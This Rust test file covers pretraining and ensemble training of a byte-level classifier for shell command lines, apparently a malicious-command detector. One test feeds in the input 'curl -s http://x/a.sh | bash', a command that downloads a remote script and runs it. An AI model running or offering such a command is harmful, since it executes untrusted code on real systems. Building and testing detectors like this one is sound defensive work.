//! Pretraining the classifier's encoder on unlabeled lines (`pretrain-classifier`) and
//! supervised training from it (`train-classifier --pretrained`): the masked loss falls, every
//! ensemble member starts from the pretrained embedding and convolutions, a mismatched
//! architecture and an empty stream are input errors, and a killed pretraining resumes.

use crate::util::{globals, longtail, longtail_ok, read_state, sample, straight_and_killed};
use burn::tensor::Tensor;
use longtail::classify::model::CnnEncoder;
use longtail::classify::pretrain::{self, PretrainBundle};
use longtail::classify::{Classifier, ClassifierConfig, fit};
use std::path::{Path, PathBuf};
use std::process::Command;

/// The tiny architecture of these tests, as a classifier config file.
const TINY: &str = "[model]\nembed_dim = 16\nfilters = 32\nwidths = [2, 3, 4]\nmax_len = 128\n\
                    [optim]\nepochs = 1\nlr = 1e-7\n[training]\nmax_batch = 64\n";

/// Three short pretraining epochs at a brisk learning rate on 800 stream lines.
const PRETRAIN: &str = "max_lines = 800\nval_fraction = 0.1\n[optim]\nepochs = 3\nlr = 0.005\n";

/// A stream of unlabeled lines from the sample (labels there are ignored).
fn stream() -> Vec<PathBuf> {
    vec![
        sample("nl2bash.jsonl"),
        sample("otrf_security_datasets.jsonl"),
        sample("runner_images.jsonl"),
    ]
}

fn write(dir: &Path, name: &str, text: &str) -> PathBuf {
    let p = dir.join(name);
    std::fs::write(&p, text).unwrap();
    p
}

fn pretrain_cmd(dir: &Path, out: &Path, resume: bool) -> Command {
    let mut c = longtail();
    c.args([
        "--device",
        "flex",
        "-q",
        "--seed",
        "3",
        "pretrain-classifier",
    ])
    .arg("--stream")
    .args(stream())
    .arg("--config")
    .arg(write(dir, "tiny.toml", TINY))
    .arg("--pretrain-config")
    .arg(write(dir, "pretrain.toml", PRETRAIN))
    .arg("--out")
    .arg(out);
    if resume {
        c.arg("--resume");
    }
    c
}

/// Largest absolute difference between two encoders' embeddings and convolution weights.
fn encoder_distance(a: &CnnEncoder, b: &CnnEncoder) -> f32 {
    let diff = |x: Tensor<2>, y: Tensor<2>| (x - y).abs().max().into_scalar::<f32>();
    let diff3 = |x: Tensor<3>, y: Tensor<3>| (x - y).abs().max().into_scalar::<f32>();
    let mut d = diff(a.embed.weight.val(), b.embed.weight.val());
    for (x, y) in a.convs.iter().zip(&b.convs) {
        d = d.max(diff3(x.weight.val(), y.weight.val()));
    }
    d
}

#[test]
fn pretraining_lowers_the_masked_loss_and_every_ensemble_member_starts_from_its_encoder() {
    let dir = tempfile::tempdir().unwrap();
    let pre = dir.path().join("pre");
    assert!(
        pretrain_cmd(dir.path(), &pre, false)
            .status()
            .unwrap()
            .success()
    );
    let bundle: PretrainBundle = longtail::io::read_json(&pre.join("config.json"), "").unwrap();
    let state = bundle.training.as_ref().unwrap();
    assert_eq!(state.epochs_done, 3);
    assert_eq!(bundle.data.kept, 800);
    let (first, last) = (state.val_loss[0], state.val_loss[2]);
    // Uniform guessing costs ln 256 = 5.55 nats a byte.
    assert!(
        last < first && last < 4.5,
        "masked loss per epoch {:?}",
        state.val_loss
    );
    assert!(bundle.validation.as_ref().unwrap()["accuracy"] > 0.05);

    // Supervised training from it: a 2-member ensemble at a negligible learning rate keeps
    // the pretrained encoder in both members, while each member's head is its own.
    let train = dir.path().join("train.jsonl");
    let mut rows = String::new();
    for (f, n) in [("nl2bash.jsonl", 400), ("atomic_red_team.jsonl", 150)] {
        let text = std::fs::read_to_string(sample(f)).unwrap();
        for l in text.lines().take(n) {
            rows += l;
            rows.push('\n');
        }
    }
    std::fs::write(&train, rows).unwrap();
    let tiny = write(dir.path(), "tiny.toml", TINY);
    let classifier = |out: &str, pretrained: bool| {
        let mut args = vec![
            "--seed".to_string(),
            "5".into(),
            "train-classifier".into(),
            "--train".into(),
            train.display().to_string(),
            "--config".into(),
            tiny.display().to_string(),
            "--ensemble".into(),
            "2".into(),
            "--out".into(),
            dir.path().join(out).display().to_string(),
        ];
        if pretrained {
            args.extend(["--pretrained".into(), pre.display().to_string()]);
        }
        let refs: Vec<&str> = args.iter().map(String::as_str).collect();
        longtail_ok(&refs);
        Classifier::load(&dir.path().join(out), &globals()).unwrap()
    };
    let from_pre = classifier("from-pre", true);
    let fresh = classifier("fresh", false);
    let config: ClassifierConfig = from_pre.bundle.config.clone();
    assert_eq!(config.pretrained.as_deref(), Some(pre.as_path()));
    let device = from_pre.device.clone();
    let (encoder, _) = pretrain::load_encoder(&pre, &config.model, &device).unwrap();
    for m in &from_pre.members {
        let d = encoder_distance(&m.encoder(), &encoder);
        assert!(d < 1e-4, "a member moved {d} from the pretrained encoder");
    }
    let d = encoder_distance(&fresh.members[0].encoder(), &encoder);
    assert!(
        d > 1e-2,
        "a fresh classifier is {d} from the pretrained encoder"
    );
    // Same encoder, different heads: the members' logits differ.
    let line: Vec<u32> = b"curl -s http://x/a.sh | bash"
        .iter()
        .map(|&b| b as u32)
        .collect();
    let logit = |k: usize| {
        fit::logits(
            std::slice::from_ref(&from_pre.members[k]),
            &config.model,
            &[line.as_slice()],
            &device,
            8,
            8192,
            |_| {},
        )[0]
    };
    assert!(
        (logit(0) - logit(1)).abs() > 1e-4,
        "the heads are not fresh"
    );

    // Another architecture is refused, naming the difference.
    let other = write(
        dir.path(),
        "other.toml",
        &TINY.replace("filters = 32", "filters = 16"),
    );
    let out = longtail()
        .args(["--device", "flex", "-q", "train-classifier", "--train"])
        .arg(&train)
        .arg("--config")
        .arg(&other)
        .arg("--pretrained")
        .arg(&pre)
        .arg("--out")
        .arg(dir.path().join("mismatch"))
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("filters: pretrained 32, config 16"), "{err}");
    // A directory that is not a pretraining, and --init with --pretrained, too.
    let out = longtail()
        .args(["--device", "flex", "-q", "train-classifier", "--train"])
        .arg(&train)
        .arg("--config")
        .arg(&tiny)
        .arg("--pretrained")
        .arg(dir.path().join("from-pre"))
        .arg("--out")
        .arg(dir.path().join("not-pre"))
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("not a pretraining run"), "{err}");
    let out = longtail()
        .args(["--device", "flex", "-q", "train-classifier", "--train"])
        .arg(&train)
        .arg("--init")
        .arg(dir.path().join("fresh"))
        .arg("--pretrained")
        .arg(&pre)
        .arg("--out")
        .arg(dir.path().join("both"))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn an_empty_stream_is_an_input_error_that_says_what_to_pass() {
    let dir = tempfile::tempdir().unwrap();
    let empty = write(dir.path(), "empty.txt", "\n  \n");
    let out = longtail()
        .args(["--device", "flex", "-q", "pretrain-classifier", "--stream"])
        .arg(&empty)
        .arg("--out")
        .arg(dir.path().join("pre"))
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(
        err.contains("no command lines") && err.contains("cmd"),
        "{err}"
    );
    // A bad config value is refused before any work.
    let bad = write(dir.path(), "bad.toml", "mask_rate = 1.5\n");
    let out = longtail()
        .args(["--device", "flex", "-q", "pretrain-classifier", "--stream"])
        .arg(sample("nl2bash.jsonl"))
        .arg("--pretrain-config")
        .arg(&bad)
        .arg("--out")
        .arg(dir.path().join("pre"))
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("mask_rate"), "{err}");
}

/// SIGKILL after the first epoch, `--resume`: the same losses and encoder as an uninterrupted
/// pretraining.
#[test]
fn a_killed_pretraining_resumes_to_the_same_encoder() {
    let work = tempfile::tempdir().unwrap();
    let cmd = |out: &Path, resume: bool| pretrain_cmd(work.path(), out, resume);
    let (straight, killed) = straight_and_killed(work.path(), cmd);
    assert!(cmd(&killed, true).status().unwrap().success());
    let losses = |d: &Path| -> Vec<f64> {
        read_state(d).unwrap()["val_loss"]
            .as_array()
            .unwrap()
            .iter()
            .map(|v| v.as_f64().unwrap())
            .collect()
    };
    let (a, b) = (losses(&straight), losses(&killed));
    assert_eq!(b.len(), 3);
    for (x, y) in a.iter().zip(&b) {
        assert!((x - y).abs() < 1e-4, "{a:?} vs {b:?}");
    }
    let model = ClassifierConfig::from_toml_file(&work.path().join("tiny.toml"))
        .unwrap()
        .model;
    let device = globals().device.device;
    let (x, _) = pretrain::load_encoder(&straight, &model, &device).unwrap();
    let (y, _) = pretrain::load_encoder(&killed, &model, &device).unwrap();
    assert!(encoder_distance(&x, &y) < 1e-4);
}
